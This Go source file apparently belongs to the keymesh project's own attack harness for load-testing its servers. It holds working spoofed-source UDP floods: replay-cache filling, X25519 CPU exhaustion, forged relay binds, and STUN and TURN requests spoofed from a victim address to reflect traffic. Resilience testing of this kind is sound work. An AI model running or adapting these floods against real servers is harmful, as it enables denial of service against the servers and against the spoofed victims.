package attack

import (
	"context"
	"crypto/ed25519"
	"encoding/binary"
	"math/rand/v2"
	"net/netip"
	"time"

	"github.com/keymesh/keymesh/internal/crypto"
	"github.com/keymesh/keymesh/internal/wire"
)

// spoofFlood floods dst at the stated rate with datagrams of about size
// bytes made by next.
func spoofFlood(ctx context.Context, e *env, dst netip.AddrPort, size int,
	next func(r *rand.Rand, scratch []byte) ([]byte, netip.AddrPort)) error {
	flood(ctx, e.raw, dst, e.rate.pps(size), e.workers, next, &e.sent)
	return nil
}

// replayFill sends valid, sealed, cookieless Registers from one attacker
// key (so the server's key cache holds it after the first) with a fresh
// nonce each: every one passes the box and the clock, enters the replay
// cache and earns a Challenge sent to a spoofed source.
func replayFill(ctx context.Context, e *env) error {
	id, err := crypto.GenerateIdentity(nil)
	if err != nil {
		return err
	}
	shared, err := id.SharedKey(e.srv.rzKey)
	if err != nil {
		return err
	}
	me := id.ID()
	size := len(wire.SealFrame(nil, me, shared, wire.Message{Time: 1, Body: &wire.Register{}}))
	return spoofFlood(ctx, e, e.srv.rzAddr, size, func(r *rand.Rand, scratch []byte) ([]byte, netip.AddrPort) {
		m := wire.Message{Time: time.Now().UnixMilli(), Body: &wire.Register{NAT: wire.NATNone, AllowAny: true}}
		return wire.SealFrame(scratch[:0], me, shared, m), randomSource(r)
	})
}

// x25519Flood sends sealed frames whose sender keys are valid Ed25519 points
// (so the server's X25519 runs to the end) and whose boxes are random (so
// none is ever cached): one scalar multiplication per datagram.
func x25519Flood(ctx context.Context, e *env) error {
	keys := make([][32]byte, 4096)
	for i := range keys {
		pub, _, err := ed25519.GenerateKey(nil)
		if err != nil {
			return err
		}
		copy(keys[i][:], pub)
	}
	const size = wire.SealedOverhead + 48
	return spoofFlood(ctx, e, e.srv.rzAddr, size, func(r *rand.Rand, scratch []byte) ([]byte, netip.AddrPort) {
		b := scratch[:size]
		b[0], b[1] = wire.TypeSealed, wire.Version
		copy(b[2:34], keys[r.IntN(len(keys))][:])
		fillRandom(r, b[34:])
		return b, randomSource(r)
	})
}

func fillRandom(r *rand.Rand, b []byte) {
	for i := 0; i < len(b); i += 8 {
		var w [8]byte
		binary.LittleEndian.PutUint64(w[:], r.Uint64())
		copy(b[i:], w[:])
	}
}

// bindForge sends RelayBinds with a fresh clock, a valid key and a random
// signature; onePort=false spoofs random addresses, true one address with
// rotating ports.
func bindForge(oneAddr bool) func(ctx context.Context, e *env) error {
	return func(ctx context.Context, e *env) error {
		keys := make([][32]byte, 1024)
		for i := range keys {
			pub, _, err := ed25519.GenerateKey(nil)
			if err != nil {
				return err
			}
			copy(keys[i][:], pub)
		}
		return spoofFlood(ctx, e, e.srv.relayAddr, wire.RelayBindLen, func(r *rand.Rand, scratch []byte) ([]byte, netip.AddrPort) {
			b := scratch[:wire.RelayBindLen]
			clear(b)
			b[0], b[1] = wire.TypeRelayBind, wire.BindVersion
			copy(b[2:34], keys[r.IntN(len(keys))][:])
			binary.BigEndian.PutUint64(b[34:42], uint64(time.Now().UnixMilli()))
			fillRandom(r, b[42:42+crypto.CookieSize+ed25519.SignatureSize]) // a made-up cookie and signature
			src := randomSource(r)
			if oneAddr {
				src = netip.AddrPortFrom(victim.Addr(), src.Port())
			}
			return b, src
		})
	}
}

// stunFlood sends bare Binding requests from the victim to the address dst
// picks.
func stunFlood(dst func(*servers) netip.AddrPort) func(ctx context.Context, e *env) error {
	return func(ctx context.Context, e *env) error {
		return spoofFlood(ctx, e, dst(e.srv), 20, func(r *rand.Rand, scratch []byte) ([]byte, netip.AddrPort) {
			b := append(scratch[:0], bindingRequest()...)
			return b, victim
		})
	}
}

// turnUnauth sends unauthenticated Allocate requests from the victim.
func turnUnauth(ctx context.Context, e *env) error {
	size := len(allocateRequest())
	return spoofFlood(ctx, e, e.srv.turnAddr, size, func(r *rand.Rand, scratch []byte) ([]byte, netip.AddrPort) {
		return append(scratch[:0], allocateRequest()...), victim
	})
}
